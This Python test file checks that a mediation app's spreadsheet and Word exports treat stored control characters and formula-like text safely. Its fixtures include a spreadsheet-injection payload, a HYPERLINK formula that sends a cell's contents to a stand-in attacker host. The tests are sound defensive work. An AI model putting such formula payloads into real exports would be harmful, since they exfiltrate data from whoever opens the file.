"""Issue 14, findings 1 and 2: no string the database holds can break an export or become a formula.

Text stored before the input policy (written straight into the tables here, as an old row would be) holds
U+000B, ESC, DEL, a non-character — and NUL on SQLite; the annual .xlsx (API and page), the .docx report and
every printout the case has still download and open. Titles, party names and the report's own paragraphs that begin
with ``=``, ``+``, ``-``, ``@`` or a tab are text cells, never formulas. The migration that introduced the
policy cleans such rows; and a Hypothesis run puts arbitrary Unicode into intake and every transition of the
happy path, then opens every export."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from typing import Any

import pytest
from factories import drive, happy_path, intake, local_today, register
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from security_helpers import api_login, client_for, docx_text, own_data_dir, xlsx_cells
from sqlalchemy import MetaData, insert, select, update
from test_web_pages import Browser

from mediation_flow.cases.printout_forms import FORMS
from mediation_flow.store.db import make_engine, write_transaction
from mediation_flow.store.migrate import upgrade
from mediation_flow.store.tables import CASES, PARTIES, USERS
from mediation_flow.textinput import scrub

YEAR = local_today().year


def _AGREE(town: Any) -> list[tuple[str, dict[str, Any]]]:
    return [("assign", {"mediator_id": town["mediator"].id}), *happy_path()[:4]]


TOWNSHIP = "500101001"
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&D3,"点击查看")', "+1+2", "-3+4", "@SUM(1,2)", "\t=1+1"]
STORED = "相邻\x0b纠纷\x1b\x7f\ufffe"


@pytest.fixture
def web(engine: Any, town: Any, tmp_path: Any, monkeypatch: pytest.MonkeyPatch) -> Any:
    with own_data_dir(tmp_path, monkeypatch), client_for(engine) as client:
        yield client


def _store(engine: Any, case_id: int, title: str, name: str, summary: str = "") -> None:
    """What an old row may hold: written past the policy, straight into the table."""
    with write_transaction(engine) as conn:
        conn.execute(update(CASES).where(CASES.c.id == case_id).values(title=title, summary=summary or title))
        first = conn.execute(select(PARTIES.c.id).where(PARTIES.c.case_id == case_id).order_by(PARTIES.c.id)).scalar()
        conn.execute(update(PARTIES).where(PARTIES.c.id == first).values(name=name, address=title))


def _downloads(web: Any, case_id: int, paragraphs: list[str] | None = None) -> dict[str, bytes]:
    """Every export touching the case: the annual .xlsx and .docx (API, page), every printout it has."""
    headers = api_login(web, "supervisor")
    params = {"year": YEAR, "jurisdiction": TOWNSHIP}
    found = {}
    for fmt in ("xlsx", "docx"):
        response = web.get("/api/v1/reports/annual/download", params={**params, "format": fmt}, headers=headers)
        assert response.status_code == 200, (fmt, response.text[:300])
        found[f"api.{fmt}"] = response.content
    if paragraphs is not None:
        response = web.post(
            "/api/v1/reports/annual/download",
            params={**params, "format": "xlsx"},
            json={"paragraphs": paragraphs},
            headers=headers,
        )
        assert response.status_code == 200, response.text[:300]
        found["edited.xlsx"] = response.content
    browser = Browser(web.app)
    assert browser.login("supervisor").status_code == 303
    page = browser.post(
        "/reports/download", {**params, "format": "xlsx", "paragraphs": "\n".join(paragraphs or ["正文"])}
    )
    assert page.status_code == 200, page.text[:300]
    found["page.xlsx"] = page.content
    for form in FORMS:  # every printout: those the case has open, the others are refused, never a 500
        printout = browser.get(f"/cases/{case_id}/print/{form}.docx")
        assert printout.status_code in (200, 404, 409, 422), (form, printout.status_code, printout.text[:300])
        if printout.status_code == 200:
            found[f"{form}.docx"] = printout.content
    assert {"registration.docx", "rights.docx", "record.docx", "agreement.docx"} <= set(found), sorted(found)
    return found


def _no_formulas(content: bytes) -> list[Any]:
    cells = xlsx_cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    return cells


def test_control_characters_in_stored_text_cannot_break_any_export(web: Any, engine: Any, town: Any) -> None:
    case_id = register(engine, town)
    drive(engine, case_id, town["supervisor"], _AGREE(town))
    nul = "\x00" if engine.dialect.name == "sqlite" else ""  # PostgreSQL cannot store a NUL at all
    _store(engine, case_id, STORED + nul, "张三\x0b" + nul)
    files = _downloads(web, case_id)
    for name, content in files.items():
        if name.endswith(".xlsx"):
            values = [c.value for c in _no_formulas(content) if isinstance(c.value, str)]
            assert "相邻\n纠纷" in values, name  # the paste's line break kept as a newline, the rest dropped
        else:
            assert "\x0b" not in docx_text(content), name


def test_formulas_in_titles_names_and_paragraphs_are_written_as_text(web: Any, engine: Any, town: Any) -> None:
    case_id = register(engine, town)
    drive(engine, case_id, town["supervisor"], _AGREE(town))
    _store(engine, case_id, FORMULAS[0], "=1+1")
    files = _downloads(web, case_id, paragraphs=FORMULAS)
    for name in ("api.xlsx", "edited.xlsx", "page.xlsx"):
        cells = _no_formulas(files[name])
        texts = {c.value: c for c in cells if isinstance(c.value, str)}
        assert FORMULAS[0] in texts and texts[FORMULAS[0]].quotePrefix, name
        assert any(str(v).startswith("=1+1") for v in texts), name
        if name != "api.xlsx":
            for formula in (f.strip() for f in FORMULAS[1:]):  # typed text is stripped: "\t=1+1" is "=1+1"
                assert formula in texts and texts[formula].data_type == "s", (name, formula)


def _rows_as_of_0008(engine: Any) -> None:
    """A database written before the text policy: the tables as they stood at revision 0008 (reflected, not
    today's table definitions, which later migrations extend), one township, a mediator, a case and a party."""
    old = MetaData()
    old.reflect(engine)
    now = datetime(2024, 5, 6, 2, 0, tzinfo=UTC)
    t = old.tables
    with write_transaction(engine) as conn:
        conn.execute(
            insert(t["jurisdiction"]).values(
                id=1, code=TOWNSHIP, name="青龙镇", short_name="青龙", level="township", path="/1/"
            )
        )
        conn.execute(
            insert(t["app_user"]).values(
                id=1,
                username="mediator",
                display_name="王\x07调解",
                role="mediator",
                password_hash="x",
                is_active=True,
                created_at=now,
                jurisdiction_id=1,
            )
        )
        conn.execute(
            insert(t["dispute_case"]).values(
                id=1,
                number="（2024）青龙人调字第001号",
                township_id=1,
                year=2024,
                seq=1,
                title="相邻\x0b纠纷\x1b",
                category="neighbour",
                source="grid",
                risk_grade="blue",
                jurisdiction_id=1,
                jurisdiction_path="/1/",
                level="township",
                summary="第一行\r\n第二行\x0b第三行\x7f",
                people_involved=2,
                workflow_name="people_mediation",
                workflow_version=1,
                state="registered",
                version=1,
                clocks={},
                attributes={},
                registered_at=now,
                created_at=now,
                updated_at=now,
                mediator_id=1,
                created_by=1,
            )
        )
        conn.execute(
            insert(t["party"]).values(
                id=1, case_id=1, role="applicant", kind="person", name="张三\u202e", address="相邻\x0b纠纷\x1b"
            )
        )


def test_the_migration_cleans_text_stored_before_the_policy(db_url: str) -> None:
    engine = make_engine(db_url)
    try:
        upgrade(engine, "0008")
        _rows_as_of_0008(engine)
        upgrade(engine)
        with engine.connect() as conn:
            title, summary = conn.execute(select(CASES.c.title, CASES.c.summary)).one()
            names = {r.name: r.address for r in conn.execute(select(PARTIES.c.name, PARTIES.c.address))}
            shown = conn.execute(select(USERS.c.display_name).where(USERS.c.username == "mediator")).scalar()
    finally:
        engine.dispose()
    assert (title, summary) == ("相邻 纠纷", "第一行\n第二行\n第三行")
    assert names["张三"] == "相邻 纠纷" and shown == "王调解"


_TEXT = st.text(st.characters(codec=None, exclude_categories=()), max_size=40)  # controls and surrogates too


def _post_json(web: Any, url: str, body: Any, headers: dict[str, str]) -> Any:
    """POST ``body`` as JSON with non-ASCII escaped: a lone surrogate travels as ``\\ud800``, valid JSON that a
    client may send, which httpx's own ``json=`` (UTF-8, unescaped) cannot encode."""
    return web.post(url, content=json.dumps(body), headers={**headers, "Content-Type": "application/json"})


def _accepted(web: Any, url: str, headers: dict[str, str], make: Any, texts: dict[str, str]) -> Any:
    """Send the texts as given: accepted, or refused with a 422 (never a 500); if refused, send them again
    cleaned and starting with "=" (which must then be accepted: formulas are the export's business)."""
    answer = _post_json(web, url, make(texts), headers)
    assert answer.status_code in (200, 201, 422), answer.text[:300]
    if answer.status_code == 422:
        answer = _post_json(web, url, make({k: "=" + scrub(v, multiline=False) for k, v in texts.items()}), headers)
        assert answer.status_code in (200, 201), answer.text[:300]
    return answer.json()


@settings(max_examples=8, deadline=None, suppress_health_check=list(HealthCheck), database=None)
@given(
    title=_TEXT,
    summary=_TEXT,
    place=_TEXT,
    name=_TEXT,
    address=_TEXT,
    note=_TEXT,
    content=_TEXT,
    facts=_TEXT,
    terms=_TEXT,
)
def test_arbitrary_unicode_through_intake_and_transitions_never_breaks_an_export(
    web: Any,
    town: Any,
    title: str,
    summary: str,
    place: str,
    name: str,
    address: str,
    note: str,
    content: str,
    facts: str,
    terms: str,
) -> None:
    """Every free-text field of intake (title, summary, incident place, a party's name and address) and of the
    steps to an agreement (each step's note, the session record, the agreement's facts and terms)."""
    grid, supervisor = api_login(web, "grid_worker"), api_login(web, "supervisor")

    def case_body(t: dict[str, str]) -> dict[str, Any]:
        parties = [
            {"role": "applicant", "name": t["name"], "address": t["address"]},
            {"role": "respondent", "name": "乙"},
        ]
        return intake(title=t["title"], summary=t["summary"], incident_place=t["place"], parties=parties)

    texts = {"title": title, "summary": summary, "place": place, "name": name, "address": address}
    case = _accepted(web, "/api/v1/cases", grid, case_body, texts)
    url, version = f"/api/v1/cases/{case['id']}/transitions", case["version"]
    for trigger, data in _AGREE(town):

        def step(
            t: dict[str, str], trigger: str = trigger, data: dict[str, Any] = data, version: int = version
        ) -> dict[str, Any]:
            extra = {"facts": t["facts"], "terms": t["terms"]} if trigger == "reach_agreement" else {}
            if trigger == "record_session":
                extra = {"content": t["content"]}
            return {"trigger": trigger, "expected_version": version, "note": t["note"], "data": {**data, **extra}}

        typed = {"note": note, "content": content, "facts": facts, "terms": terms}
        version = _accepted(web, url, supervisor, step, typed)["version"]
    paragraphs = ["=" + scrub(t) for t in (title, summary, note)]
    for file_name, content in _downloads(web, case["id"], paragraphs=paragraphs).items():
        if file_name.endswith(".xlsx"):
            _no_formulas(content)
        else:
            docx_text(content)
